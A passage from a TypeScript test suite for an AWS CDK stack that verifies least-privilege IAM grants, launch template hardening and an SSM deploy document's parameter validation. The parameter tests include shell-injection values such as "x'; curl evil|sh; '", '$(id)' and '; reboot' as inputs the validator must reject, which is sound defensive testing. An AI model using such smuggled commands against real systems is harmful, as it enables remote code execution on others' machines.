    expect(stack.lifecycle.stepFunctions.DeprovisionCustomer.TerminateInstancesFunctionArn).toBe(
      stack.provisioning.stepFunctions.TerminateInstancesFunctionArn,
    );
    expect(stack.lifecycle.stepFunctions.SuspendCustomer.SendLifecycleEmailFunctionArn).toBe(
      stack.lifecycle.stepFunctions.DeprovisionCustomer.SendLifecycleEmailFunctionArn,
    );
  });

  it('a state machine cannot invoke another workflow\'s steps (Suspend cannot terminate, Resume cannot snapshot)', () => {
    const invokable = (workflow: WorkflowDefinition) =>
      text(statementsOfRole(logicalId(stateMachineOf(workflow).role)).filter((statement) => [statement.Action].flat().includes('lambda:InvokeFunction')));
    const suspend = LIFECYCLE_WORKFLOWS[0].workflow;
    const resume = LIFECYCLE_WORKFLOWS[1].workflow;
    expect(invokable(suspend)).not.toContain(logicalId(stack.provisioning.stepFunctions.TerminateInstancesFunctionArn!));
    expect(invokable(resume)).not.toContain(logicalId(stack.lifecycle.stepFunctions.DeprovisionCustomer.SnapshotDataVolumeFunctionArn!));
    expect(invokable(PROVISION_CUSTOMER)).not.toContain(logicalId(stack.lifecycle.stepFunctions.SuspendCustomer.StopInstanceFunctionArn!));
  });

  it('outputs the provisioning state machine ARN', () => {
    template.hasOutput('ProvisioningStateMachineArn', { Value: { Ref: logicalId(stack.provisioning.stateMachine) } });
  });
});

describe('Workflow steps', () => {
  const steps = DISTINCT_STEPS.map((step) => [step.id, step] as const);
  const customerDomain = cdkJson.context['stackpro:customerDomain'];
  const senderAddress = cdkJson.context['stackpro:senderAddress'];

  /** What each access means in IAM actions: pinned here independently of lib/, so a change is deliberate. */
  const ACTIONS: Record<StepAccess, readonly string[]> = {
    'table:read': ['dynamodb:GetItem', 'dynamodb:BatchGetItem', 'dynamodb:Query', 'dynamodb:ConditionCheckItem', 'dynamodb:DescribeTable'],
    'table:write': ['dynamodb:PutItem', 'dynamodb:UpdateItem', 'dynamodb:DeleteItem', 'dynamodb:BatchWriteItem', 'dynamodb:DescribeTable'],
    'ec2:launch': ['ec2:RunInstances', 'ec2:CreateTags', 'iam:PassRole'],
    'ec2:describe': ['ec2:DescribeInstances'],
    'ec2:terminate': ['ec2:TerminateInstances'],
    'ec2:stop-start': ['ec2:StopInstances', 'ec2:StartInstances'],
    'ec2:snapshot': ['ec2:CreateSnapshot', 'ec2:CreateTags', 'ec2:DescribeSnapshots'],
    'route53:records': ['route53:ChangeResourceRecordSets', 'route53:ListResourceRecordSets'],
    'route53:get-change': ['route53:GetChange'],
    'ses:create-identity': ['ses:CreateEmailIdentity', 'ses:GetEmailIdentity', 'ses:TagResource'],
    'ses:read-identity': ['ses:GetEmailIdentity'],
    'ses:delete-identity': ['ses:DeleteEmailIdentity'],
    'ses:send': ['ses:SendEmail'],
    'ssm:deploy': ['ssm:SendCommand'],
    'ssm:read': ['ssm:DescribeInstanceInformation', 'ssm:GetCommandInvocation'],
    'ssm:customer-secrets': ['ssm:PutParameter', 'ssm:AddTagsToResource'],
    stripe: ['secretsmanager:GetSecretValue', 'secretsmanager:DescribeSecret'],
    'ec2:modify-instance-type': ['ec2:ModifyInstanceAttribute'],
    'ec2:modify-volume': ['ec2:ModifyVolume', 'ec2:DescribeVolumes', 'ec2:DescribeVolumesModifications'],
    'ssm:run-shell': ['ssm:SendCommand'],
    'backup:restore': ['backup:StartRestoreJob', 'backup:DescribeRecoveryPoint', 'backup:DescribeRestoreJob', 'iam:PassRole'],
    'ec2:swap-volume': ['ec2:DescribeVolumes', 'ec2:AttachVolume', 'ec2:DetachVolume', 'ec2:ModifyInstanceAttribute'],
    'ec2:delete-volume': ['ec2:DeleteVolume'],
    'customers:list': ['dynamodb:Query'],
    'messaging:read': ['dynamodb:GetItem', 'dynamodb:Query', 'dynamodb:ConditionCheckItem'],
    'messaging:write': ['dynamodb:PutItem', 'dynamodb:UpdateItem', 'dynamodb:DeleteItem', 'dynamodb:ConditionCheckItem'],
    'sms:request-number': ['sms-voice:RequestPhoneNumber', 'sms-voice:TagResource', 'sms-voice:UpdatePhoneNumber'],
    'sms:release-number': ['sms-voice:ReleasePhoneNumber'],
  };

  /** The environment each access adds on top of TABLE_NAME (names from lambdas/config.ts). */
  const ENVIRONMENT: Record<StepAccess, readonly string[]> = {
    'table:read': [],
    'table:write': [],
    'ec2:launch': ['LAUNCH_TEMPLATE_ID', 'SUBNET_IDS'],
    'ec2:describe': [],
    'ec2:terminate': [],
    'ec2:stop-start': [],
    'ec2:snapshot': [],
    'route53:records': ['HOSTED_ZONE_ID'],
    'route53:get-change': [],
    'ses:create-identity': [],
    'ses:read-identity': [],
    'ses:delete-identity': [],
    'ses:send': ['SENDER_ADDRESS'],
    'ssm:deploy': ['DEPLOY_DOCUMENT_NAME'],
    'ssm:read': [],
    'ssm:customer-secrets': ['INSTANCE_ARN_PREFIX'],
    stripe: ['STRIPE_SECRET_ID'],
    'ec2:modify-instance-type': [],
    'ec2:modify-volume': [],
    'ssm:run-shell': [],
    'backup:restore': ['BACKUP_VAULT_NAME', 'BACKUP_ROLE_ARN', 'VOLUME_ARN_PREFIX'],
    'ec2:swap-volume': [],
    'ec2:delete-volume': [],
    'customers:list': [],
    'messaging:read': ['MESSAGING_TABLE_NAME'],
    'messaging:write': ['MESSAGING_TABLE_NAME'],
    'sms:request-number': ['MESSAGING_SMS_TOPIC_ARN'],
    'sms:release-number': [],
  };

  /** Settings a step reads beyond its access, by step id. */
  const STEP_SETTINGS: Readonly<Record<string, readonly string[]>> = {
    SetUpBilling: ['STRIPE_PRICE_IDS'],
    PutBackPreviousPrice: ['STRIPE_PRICE_IDS'],
    ReleaseMessagingChannels: ['MESSAGING_HISTORY_RETENTION_DAYS'],
  };

  function stepFunction(stepId: string): StackProFunction {
    for (const workflow of CHECKED_WORKFLOWS) {
      const fn = Object.values(stepFunctionsOf(workflow)).find((candidate) => candidate.node.id === stepId);
      if (fn) return fn;
    }
    throw new Error(`no function for step ${stepId}`);
  }

  function statementsOf(stepId: string): Statement[] {
    return statementsOfRole(logicalId(stepFunction(stepId).role!));
  }

  const roleOf = (stepId: string) => logicalId(stepFunction(stepId).role!);
  const routeRoleOf = (routeId: string) => logicalId(routeFunction(routeId).role!);
  const stepsWith = (access: StepAccess) => DISTINCT_STEPS.filter((step) => step.access.includes(access)).map((step) => step.id);

  it('provisioning has one function per step, with the construct id the workflow table gives it', () => {
    expect(Object.values(stack.provisioning.stepFunctions).map((fn) => fn.node.id).sort()).toEqual(
      Object.values(PROVISION_CUSTOMER.steps).map((step) => step.id).sort(),
    );
  });

  it('lifecycle-only steps live under LifecycleWorkflows, shared ones keep their ProvisioningWorkflow path', () => {
    expect(stepFunction('StopInstance').node.path).toBe('StackPro/LifecycleWorkflows/StopInstance');
    expect(stepFunction('SendLifecycleEmail').node.path).toBe('StackPro/LifecycleWorkflows/SendLifecycleEmail');
    expect(stepFunction('PointSubdomain').node.path).toBe('StackPro/ProvisioningWorkflow/PointSubdomain');
  });

  it.each(steps)('%s is granted exactly the actions of its access', (stepId, step: WorkflowStep) => {
    const actions = new Set(statementsOf(stepId).flatMap((statement) => [statement.Action].flat()));
    const ours = [...actions].filter((action) => !/^(logs|xray):/.test(action)).sort();
    expect(ours).toEqual([...new Set(step.access.flatMap((access) => ACTIONS[access]))].sort());
  });

  it.each(steps)('%s gets exactly the environment its access needs', (stepId, step: WorkflowStep) => {
    const environment = environmentOf(stepFunction(stepId));
    const shared = ['POWERTOOLS_SERVICE_NAME', 'POWERTOOLS_LOG_LEVEL', 'NODE_OPTIONS', 'TABLE_NAME'];
    expect(Object.keys(environment).sort()).toEqual(
      [...new Set([...shared, ...step.access.flatMap((access) => ENVIRONMENT[access]), ...(STEP_SETTINGS[stepId] ?? [])])].sort(),
    );
  });

  it('passes the launch settings, zone, document, sender, Stripe secret and prices as the handlers read them', () => {
    const launch = environmentOf(stepFunction('LaunchInstance'));
    expect(launch.LAUNCH_TEMPLATE_ID).toEqual({ Ref: logicalId(stack.customerInstances.launchTemplate) });
    expect(text(launch.SUBNET_IDS)).toContain('CustomerInstancesVpcPublicSubnet1');
    expect(text(launch.SUBNET_IDS)).toContain('CustomerInstancesVpcPublicSubnet2');
    expect(environmentOf(stepFunction('PointSubdomain')).HOSTED_ZONE_ID).toBe(cdkJson.context['stackpro:hostedZoneId']);
    expect(environmentOf(stepFunction('DeployApplications')).DEPLOY_DOCUMENT_NAME).toBe('StackPro-DeployApplications');
    expect(environmentOf(stepFunction('SendWelcomeEmail')).SENDER_ADDRESS).toBe(senderAddress);
    expect(environmentOf(stepFunction('SendLifecycleEmail')).SENDER_ADDRESS).toBe(senderAddress);
    const billing = environmentOf(stepFunction('SetUpBilling'));
    expect(billing.STRIPE_SECRET_ID).toEqual({ Ref: logicalId(stack.stripeKeys.secret) });
    expect(JSON.parse(billing.STRIPE_PRICE_IDS as string)).toEqual(cdkJson.context['stackpro:stripePriceIds']);
  });

  it('CheckInstance can describe instances but never launch or terminate one', () => {
    const actions = statementsOf('CheckInstance').flatMap((statement) => [statement.Action].flat());
    expect(actions).toContain('ec2:DescribeInstances');
    expect(actions).not.toContain('ec2:RunInstances');
    expect(actions).not.toContain('ec2:TerminateInstances');
  });

  it('only TerminateInstances (and the stopped-execution clean-up) can terminate, and only instances tagged ManagedBy=stackpro', () => {
    const grants = grantsOf('ec2:TerminateInstances');
    expect(grants.map((grant) => grant.role).sort()).toEqual([roleOf('TerminateInstances'), recoveryRole()].sort());
    for (const { statement } of grants) {
      expect(text(statement.Resource)).toMatch(/:instance\/\*"/);
      expect(statement.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } });
    }
  });

  it.each(['ec2:StopInstances', 'ec2:StartInstances'])(
    'only the suspend and resume instance steps can %s, and only instances tagged ManagedBy=stackpro',
    (action) => {
      const grants = grantsOf(action);
      expect(grants.map((grant) => grant.role).sort()).toEqual(stepsWith('ec2:stop-start').map(roleOf).sort());
      expect(stepsWith('ec2:stop-start').sort()).toEqual([
        'CheckInstanceStarted',
        'CheckInstanceStopped',
        'RestorePreviousType',
        'StartInstance',
        'StartInstanceAfterResize',
        'StopInstance',
        'StopInstanceForResize',
      ]);
      for (const { statement } of grants) {
        expect(text(statement.Resource)).toMatch(/:ec2:",\{"Ref":"AWS::Region"\},":",\{"Ref":"AWS::AccountId"\},":instance\/\*"/);
        expect(statement.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } });
      }
    },
  );

  it('only the snapshot steps can CreateSnapshot: of ManagedBy=stackpro volumes, into snapshots that must carry the tag', () => {
    // AWS Backup's own role snapshots too (tested in test/infra/customer-backups.test.ts); no function may assume it.
    const backupRole = logicalId(stack.customerBackups.backupRole);
    const grants = grantsOf('ec2:CreateSnapshot').filter((grant) => grant.role !== backupRole);
    expect(new Set(grants.map((grant) => grant.role))).toEqual(new Set(stepsWith('ec2:snapshot').map(roleOf)));
    expect(stepsWith('ec2:snapshot').sort()).toEqual(['CheckSnapshot', 'SnapshotBeforeResize', 'SnapshotDataVolume']);
    for (const stepId of stepsWith('ec2:snapshot')) {
      const mine = grants.filter((grant) => grant.role === roleOf(stepId)).map((grant) => grant.statement);
      const volume = mine.find((statement) => text(statement.Resource).includes(':volume/*'));
      const snapshot = mine.find((statement) => text(statement.Resource).includes('snapshot/*'));
      expect(volume?.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } });
      expect(text(volume?.Resource)).toContain('{"Ref":"AWS::AccountId"},":volume/*"');
      // Snapshot ARNs carry no account id.
      expect(text(snapshot?.Resource)).toContain('{"Ref":"AWS::Region"},"::snapshot/*"');
      expect(snapshot?.Condition).toEqual({ StringEquals: { 'aws:RequestTag/ManagedBy': 'stackpro' } });
      expect(mine).toHaveLength(2);
    }
  });

  it('tags only while launching (instances, volumes) or snapshotting (snapshots)', () => {
    const backupRole = logicalId(stack.customerBackups.backupRole);
    const tagging = grantsOf('ec2:CreateTags').filter((grant) => grant.role !== backupRole);
    expect(new Set(tagging.map((grant) => grant.role))).toEqual(new Set(['LaunchInstance', ...stepsWith('ec2:snapshot')].map(roleOf)));
    for (const { role, statement } of tagging) {
      if (role === roleOf('LaunchInstance')) {
        expect(statement.Condition).toEqual({ StringEquals: { 'ec2:CreateAction': 'RunInstances' } });
        expect(text(statement.Resource)).not.toContain('snapshot');
      } else {
        expect(statement.Condition).toEqual({ StringEquals: { 'ec2:CreateAction': 'CreateSnapshot' } });
        expect(text(statement.Resource)).toContain('"::snapshot/*"');
        expect(text(statement.Resource)).not.toMatch(/instance|volume/);
      }
    }
    const sweepRole = logicalId(stack.scheduledJobs.functions.DeleteExpiredSnapshots.role!);
    const usageRole = logicalId(stack.scheduledJobs.functions.CollectUsage.role!);
    expect(grantsOf('ec2:DescribeSnapshots').filter((grant) => grant.role !== sweepRole && grant.role !== usageRole && grant.role !== backupRole).map((grant) => grant.statement.Resource)).toEqual(stepsWith('ec2:snapshot').map(() => '*'));
  });

  it('LaunchInstance can pass only the instance role, only to EC2', () => {
    // The "back up now" route passes AWS Backup's role (its own test below).
    const backupRoute = logicalId(routeFunction('StartCustomerBackup').role!);
    const passing = grantsOf('iam:PassRole').filter((grant) => grant.role !== backupRoute);
    expect(passing.map((grant) => grant.role)).toEqual([roleOf('LaunchInstance')]);
    expect(passing[0]!.statement).toMatchObject({
      Resource: { 'Fn::GetAtt': [logicalId(stack.customerInstances.instanceRole), 'Arn'] },
      Condition: { StringEquals: { 'iam:PassedToService': 'ec2.amazonaws.com' } },
    });
  });

  it('StartCustomerBackup can pass only the backup role, only to AWS Backup, and start jobs only into the customer vault', () => {
    const role = logicalId(routeFunction('StartCustomerBackup').role!);
    const passing = grantsOf('iam:PassRole').filter((grant) => grant.role === role);
    expect(passing.map((grant) => grant.statement)).toEqual([
      expect.objectContaining({
        Resource: { 'Fn::GetAtt': [logicalId(stack.customerBackups.backupRole), 'Arn'] },
        Condition: { StringEquals: { 'iam:PassedToService': 'backup.amazonaws.com' } },
      }),
    ]);
    const starting = grantsOf('backup:StartBackupJob');
    expect(starting.map((grant) => grant.role)).toEqual([role]);
    expect(starting[0]!.statement.Resource).toEqual({ 'Fn::GetAtt': [logicalId(stack.customerBackups.vault), 'BackupVaultArn'] });
  });

  it('only LaunchInstance can RunInstances, and only through the launch template, with the tag and plan sizes', () => {
    const grants = grantsOf('ec2:RunInstances');
    expect(new Set(grants.map((grant) => grant.role))).toEqual(new Set([roleOf('LaunchInstance')]));
    const templateRef = { Ref: logicalId(stack.customerInstances.launchTemplate) };
    for (const { statement } of grants) {
      expect(text(statement.Condition?.ArnEquals?.['ec2:LaunchTemplate'])).toContain(text(templateRef));
    }
    const resources = text(grants.map(({ statement }) => statement.Resource));
    expect(resources).toContain(`launch-template/",${text(templateRef)}`);
    expect(resources).toContain(`security-group/",{"Fn::GetAtt":["${logicalId(stack.customerInstances.securityGroup)}","GroupId"]}`);
    // Images owned by Amazon or this account only: no community or marketplace AMI as an override.
    const image = grants.find(({ statement }) => text(statement.Resource).includes('::image/*'))!.statement;
    expect(image.Condition?.StringEquals).toEqual({ 'ec2:Owner': ['amazon', { Ref: 'AWS::AccountId' }] });

    const instance = grants.find(({ statement }) => text(statement.Resource).includes(':instance/*'))!.statement;
    expect(instance.Condition?.StringEquals).toEqual({
      'aws:RequestTag/ManagedBy': 'stackpro',
      'ec2:InstanceType': ['t3.micro', 't3.small', 't3.medium'],
      'ec2:MetadataHttpTokens': 'required',
    });
    const volume = grants.find(({ statement }) => text(statement.Resource).includes(':volume/*'))!.statement;
    expect(volume.Condition?.StringEquals).toEqual({ 'aws:RequestTag/ManagedBy': 'stackpro' });
    expect(volume.Condition?.Bool).toEqual({ 'ec2:Encrypted': 'true' });
  });

  it('RunInstances needs IMDSv2 on the instance and encryption on every volume, in the same statement that allows them', () => {
    const grants = grantsOf('ec2:RunInstances').map(({ statement }) => statement);
    const byResource = (part: string) => grants.filter((statement) => text(statement.Resource).includes(part));
    // One statement per resource type: no second, looser statement could allow an IMDSv1 instance or a plain volume.
    expect(byResource(':instance/*')).toHaveLength(1);
    expect(byResource(':volume/*')).toHaveLength(1);
    for (const statement of grants) {
      const resources = text(statement.Resource);
      if (resources.includes(':instance/*')) expect(statement.Condition?.StringEquals?.['ec2:MetadataHttpTokens']).toBe('required');
      if (resources.includes(':volume/*')) expect(statement.Condition?.Bool?.['ec2:Encrypted']).toBe('true');
    }
  });

  it('only the DNS steps can change records, only in the hosted zone and only under the customer domain', () => {
    const grants = grantsOf('route53:ChangeResourceRecordSets');
    expect(grants.map((grant) => grant.role).sort()).toEqual(
      [...['PublishDkimRecords', 'PointSubdomain', 'RemoveDnsRecords', 'ParkSubdomain'].map(roleOf), recoveryRole()].sort(),
    );
    const zoneId = cdkJson.context['stackpro:hostedZoneId'];
    for (const { statement } of grants) {
      expect(text(statement.Resource)).toMatch(new RegExp(`:route53:::hostedzone/${zoneId}"`));
      expect(statement.Condition).toEqual({
        'ForAllValues:StringLike': { 'route53:ChangeResourceRecordSetsNormalizedRecordNames': [`*.${customerDomain}`] },
        'ForAllValues:StringEquals': {
          'route53:ChangeResourceRecordSetsActions': ['UPSERT', 'DELETE'],
          // Only what provisioning writes: the subdomain's A record and the DKIM CNAMEs.
          'route53:ChangeResourceRecordSetsRecordTypes': ['A', 'CNAME'],
        },
        // ForAllValues is true for a missing key: these must be present for the grant to apply.
        Null: {
          'route53:ChangeResourceRecordSetsNormalizedRecordNames': 'false',
          'route53:ChangeResourceRecordSetsRecordTypes': 'false',
          'route53:ChangeResourceRecordSetsActions': 'false',
        },
      });
    }
    for (const { statement } of grantsOf('route53:ListResourceRecordSets')) {
      expect(text(statement.Resource)).toMatch(new RegExp(`:route53:::hostedzone/${zoneId}"`));
    }
    expect(grantsOf('route53:GetChange').map((grant) => grant.role)).toEqual([roleOf('CheckDnsChange')]);
  });

  it('SES identity actions reach customer subdomain identities only', () => {
    for (const action of ['ses:CreateEmailIdentity', 'ses:GetEmailIdentity', 'ses:TagResource', 'ses:DeleteEmailIdentity']) {
      for (const { statement } of grantsOf(action)) {
        expect(text(statement.Resource)).toContain(`:identity/*.${customerDomain}"`);
      }
    }
    expect(grantsOf('ses:DeleteEmailIdentity').map((grant) => grant.role).sort()).toEqual([roleOf('DeleteEmailIdentity'), recoveryRole()].sort());
  });

  it('only the email steps, signup, resend and the Stripe webhook can send, and only from the sender address', () => {
    const grants = grantsOf('ses:SendEmail');
    expect(grants.map((grant) => grant.role).sort()).toEqual(
      [...stepsWith('ses:send').map(roleOf), ...ROUTES.filter((route) => route.access.includes('ses:send')).map((route) => routeRoleOf(route.id))].sort(),
    );
    expect(grants.map((grant) => grant.role).sort()).toEqual(
      [
        roleOf('SendWelcomeEmail'),
        roleOf('SendLifecycleEmail'),
        roleOf('CompletePlanChange'),
        routeRoleOf('ReceiveStripeWebhook'),
        // The verification email (no user-typed text in it).
        routeRoleOf('SignUp'),
        routeRoleOf('ResendVerification'),
        // The password-reset email (no user-typed text either).
        routeRoleOf('RequestPasswordReset'),
      ].sort(),
    );
    for (const { statement } of grants) {
      const resources = text(statement.Resource);
      expect(resources).toContain(`:identity/${senderAddress}"`);
      expect(resources).toContain(`:identity/${senderAddress.split('@')[1]}"`);
      expect(statement.Condition).toEqual({ StringEquals: { 'ses:FromAddress': senderAddress } });
    }
  });

  it('only DeployApplications (the deploy document), GrowFileSystem and CheckAppsAnswer (AWS-RunShellScript) can send commands, on ManagedBy=stackpro instances', () => {
    const grants = grantsOf('ssm:SendCommand');
    expect(new Set(grants.map((grant) => grant.role))).toEqual(new Set([roleOf('DeployApplications'), roleOf('GrowFileSystem'), roleOf('CheckAppsAnswer')]));
    const documentOf = (role: string) => grants.find((grant) => grant.role === role && text(grant.statement.Resource).includes(':document/'))!.statement;
    expect(text(documentOf(roleOf('DeployApplications')).Resource)).toContain(':document/StackPro-DeployApplications"');
    expect(text(documentOf(roleOf('GrowFileSystem')).Resource)).toContain(':document/AWS-RunShellScript"');
    expect(text(documentOf(roleOf('CheckAppsAnswer')).Resource)).toContain(':document/AWS-RunShellScript"');
    for (const { statement } of grants.filter((grant) => text(grant.statement.Resource).includes(':instance/*'))) {
      expect(statement.Condition).toEqual({ StringEquals: { 'ssm:resourceTag/ManagedBy': 'stackpro' } });
    }
  });

  it('only the resize steps can ModifyInstanceAttribute: the type only, to a plan type, on ManagedBy=stackpro instances', () => {
    const grants = grantsOf('ec2:ModifyInstanceAttribute');
    expect(grants.map((grant) => grant.role).sort()).toEqual([roleOf('ChangeInstanceType'), roleOf('RestorePreviousType')].sort());
    for (const { statement } of grants) {
      expect(text(statement.Resource)).toMatch(/:instance\/\*"/);
      expect(statement.Condition).toEqual({
        StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro', 'ec2:Attribute/InstanceType': ['t3.micro', 't3.small', 't3.medium'] },
      });
    }
    expect(grantsOf('ec2:ModifyVolume').map((grant) => grant.role)).toEqual([roleOf('GrowVolume')]);
    expect(grantsOf('ec2:ModifyVolume')[0]!.statement.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } });
  });

  it('no step can start executions, invoke functions, use KMS, or read a secret other than the Stripe keys (when it declares stripe)', () => {
    for (const [stepId, step] of steps) {
      const statements = statementsOf(stepId);
      const actions = statements.flatMap((statement) => [statement.Action].flat());
      expect(actions.filter((action) => /^(states|kms|lambda):/.test(action))).toEqual([]);
      const secretReads = statements.filter((statement) => [statement.Action].flat().some((action) => action.startsWith('secretsmanager:')));
      // In the nested stack the secret is a parameter named after it.
      expect(secretReads.map((statement) => statement.Resource)).toEqual(
        step.access.includes('stripe') ? [{ Ref: expect.stringMatching(new RegExp(`^(${logicalId(stack.stripeKeys.secret)}|referenceto${importedName(stack.stripeKeys.secret)}Ref)$`)) }] : [],
      );
    }
    expect(stepsWith('stripe').sort()).toEqual(['CancelSubscription', 'PutBackPreviousPrice', 'SetUpBilling']);
  });
});

describe('CustomerInstances', () => {
  function launchTemplateData(): Record<string, unknown> {
    const templates = Object.values(template.findResources('AWS::EC2::LaunchTemplate')) as Resource[];
    expect(templates).toHaveLength(1);
    return templates[0]!.Properties.LaunchTemplateData as Record<string, unknown>;
  }

  it('launch template: IMDSv2 only (hop limit 1), no key pair, encrypted gp3 root, the instance profile and security group', () => {
    const data = launchTemplateData();
    expect(data).toMatchObject({
      MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1 },
      BlockDeviceMappings: [{ DeviceName: '/dev/xvda', Ebs: { Encrypted: true, VolumeType: 'gp3', VolumeSize: 30, DeleteOnTermination: true } }],
      ImageId: { Ref: expect.stringMatching(/^SsmParameterValue/) },
      SecurityGroupIds: [{ 'Fn::GetAtt': [logicalId(stack.customerInstances.securityGroup), 'GroupId'] }],
      DisableApiTermination: false,
    });
    expect(data).not.toHaveProperty('KeyName');
    // Launch instance passes SubnetId; EC2 refuses that together with template network interfaces.
    expect(data).not.toHaveProperty('NetworkInterfaces');
    const profile = template.findResources('AWS::IAM::InstanceProfile');
    expect(Object.values(profile)).toEqual([
      expect.objectContaining({ Properties: { Roles: [{ Ref: logicalId(stack.customerInstances.instanceRole) }] } }),
    ]);
  });

  it('reads the AMI from the SSM parameter in context at deploy time (offline synth)', () => {
    const parameters = template.toJSON().Parameters as Record<string, { Type: string; Default: string }>;
    expect(Object.values(parameters)).toContainEqual({
      Type: 'AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>',
      Default: cdkJson.context['stackpro:customerAmiSsmParameter'],
    });
  });

  it('tags launched instances and volumes ManagedBy=stackpro, and its user data only starts the CloudWatch agent (no secret)', () => {
    const data = launchTemplateData();
    const tagged = (data.TagSpecifications as { ResourceType: string; Tags: { Key: string; Value: string }[] }[])
      .filter((spec) => spec.Tags.some((tag) => tag.Key === 'ManagedBy' && tag.Value === 'stackpro'))
      .map((spec) => spec.ResourceType);
    expect(tagged.sort()).toEqual(['instance', 'volume']);
    const userData = (data.UserData as { 'Fn::Base64': string })['Fn::Base64'];
    expect(userData.split('\n').filter((line) => line.startsWith('dnf ') || line.includes('-ctl '))).toEqual([
      'dnf install -y amazon-cloudwatch-agent',
      expect.stringMatching(/^\/opt\/aws\/amazon-cloudwatch-agent\/bin\/amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:/),
    ]);
    expect(userData).not.toMatch(/ssm get-parameter|secret|password|token/i);
  });

  it('security group: 80 and 443 from anywhere, nothing else inbound (no SSH)', () => {
    const group = resourceOf(stack.customerInstances.securityGroup).Properties as { SecurityGroupIngress: { FromPort: number; ToPort: number; IpProtocol: string }[] };
    expect(group.SecurityGroupIngress.map((rule) => [rule.IpProtocol, rule.FromPort, rule.ToPort])).toEqual([
      ['tcp', 80, 80],
      ['tcp', 443, 443],
    ]);
    const ingress = Object.values(template.findResources('AWS::EC2::SecurityGroupIngress')) as Resource[];
    expect(ingress).toEqual([]);
    expect(text(template.findResources('AWS::EC2::SecurityGroup'))).not.toMatch(/"(FromPort|ToPort)":22\b/);
  });

  it('public subnets only, no NAT gateway, VPC flow logs to CloudWatch', () => {
    template.resourceCountIs('AWS::EC2::NatGateway', 0);
    const subnets = Object.values(template.findResources('AWS::EC2::Subnet')) as Resource[];
    expect(subnets.length).toBeGreaterThanOrEqual(2);
    for (const subnet of subnets) expect(subnet.Properties.MapPublicIpOnLaunch).toBe(true);
    template.hasResourceProperties('AWS::EC2::FlowLog', { ResourceType: 'VPC', LogDestinationType: 'cloud-watch-logs', TrafficType: 'ALL' });
  });

  it('the instance role reads a customer parameter only when its StackProInstance tag is the calling instance ARN', () => {
    const statements = statementsOfRole(logicalId(stack.customerInstances.instanceRole));
    const reads = statements.filter((statement) => statement.Effect === 'Allow' && [statement.Action].flat().some((action) => action.startsWith('ssm:GetParameter')));
    expect(reads).toHaveLength(1);
    const read = reads[0]!;
    expect([read.Action].flat().sort()).toEqual(['ssm:GetParameter', 'ssm:GetParameters']);
    expect(text(read.Resource)).toMatch(/:parameter\/stackpro\/customers\/\*"/);
    expect(read.Condition).toEqual({
      StringEquals: { 'ssm:resourceTag/StackProInstance': '${ec2:SourceInstanceARN}' },
      // Fail closed: no instance ARN in the request (credentials taken off the box) or no tag: nothing.
      Null: { 'ec2:SourceInstanceARN': 'false', 'ssm:resourceTag/StackProInstance': 'false' },
    });
    const role = resourceOf(stack.customerInstances.instanceRole).Properties;
    expect(role).not.toHaveProperty('ManagedPolicyArns');
  });

  it('the instance role can never list by path, write, delete or tag a parameter', () => {
    const statements = statementsOfRole(logicalId(stack.customerInstances.instanceRole));
    const allowed = statements.filter((statement) => statement.Effect === 'Allow').flatMap((statement) => [statement.Action].flat());
    expect(allowed.filter((action) => /^ssm:(GetParametersByPath|Put|Delete|Label|Unlabel|AddTags|RemoveTags)/.test(action))).toEqual([]);
    const denied = statements.filter((statement) => statement.Effect === 'Deny');
    expect(denied).toHaveLength(1);
    expect([denied[0]!.Action].flat()).toEqual(
      expect.arrayContaining(['ssm:GetParametersByPath', 'ssm:PutParameter', 'ssm:DeleteParameter', 'ssm:AddTagsToResource', 'ssm:RemoveTagsFromResource']),
    );
    expect(text(denied[0]!.Resource)).toMatch(/:parameter\/\*"/);
    expect(denied[0]!.Condition).toBeUndefined();
  });

  it('only DeployApplications writes and tags customer parameters, and it cannot read them', () => {
    for (const action of ['ssm:PutParameter', 'ssm:AddTagsToResource']) {
      const grants = grantsOf(action);
      expect(grants.map((grant) => grant.role)).toEqual([logicalId(stepFunctionOf('DeployApplications').role!)]);
      expect(text(grants[0]!.statement.Resource)).toMatch(/:parameter\/stackpro\/customers\/\*"/);
    }
    const actions = actionsOf(stepFunctionOf('DeployApplications'));
    expect(actions.filter((action) => /^ssm:GetParameter/.test(action))).toEqual([]);
    expect(text(environmentOf(stepFunctionOf('DeployApplications')).INSTANCE_ARN_PREFIX)).toMatch(/":ec2:",.*":instance\/"\]\]\}$/);
  });
});

describe('DeployDocument', () => {
  function documentContent() {
    const documents = Object.values(template.findResources('AWS::SSM::Document')) as Resource[];
    expect(documents).toHaveLength(1);
    expect(documents[0]!.Properties).toMatchObject({ Name: 'StackPro-DeployApplications', DocumentType: 'Command', UpdateMethod: 'NewVersion' });
    return documents[0]!.Properties.Content as {
      schemaVersion: string;
      parameters: Record<string, { type: string; allowedPattern: string }>;
      mainSteps: { action: string; inputs: { runCommand: unknown[] } }[];
    };
  }

  it('is a schema 2.2 shell script with exactly the parameters Deploy applications and the fleet update send', () => {
    const content = documentContent();
    expect(content.schemaVersion).toBe('2.2');
    expect(Object.keys(content.parameters).sort()).toEqual(['AppVersion', 'CustomerId', 'Plan', 'Subdomain']);
    expect(content.mainSteps.map((step) => step.action)).toEqual(['aws:runShellScript']);
  });

  it.each([
    ['CustomerId', '0b6f0f8e-5d0a-4c59-9a3e-2f1b8c7d6e5f', ["x'; curl evil|sh; '", '../other-customer', '']],
    ['Subdomain', `acme-co.${cdkJson.context['stackpro:customerDomain']}`, ['acme.evil.example', `a b.${cdkJson.context['stackpro:customerDomain']}`, `$(id).${cdkJson.context['stackpro:customerDomain']}`]],
    ['Plan', 'business', ['business; reboot', 'gold']],
    ['AppVersion', APP_VERSIONS[0]!.version, [`${APP_VERSIONS[0]!.version}; reboot`, '2099.01.0', `${APP_VERSIONS[0]!.version.replace(/\./g, 'x')}`]],
  ])('%s admits %s and nothing that could break out of the shell', (name, valid, invalid) => {
    const pattern = new RegExp(documentContent().parameters[name]!.allowedPattern);
    expect(pattern.test(valid)).toBe(true);
    for (const value of invalid) expect(pattern.test(value)).toBe(false);
  });

  /** The script's lines; the region line is an Fn::Join, shown as its JSON. */
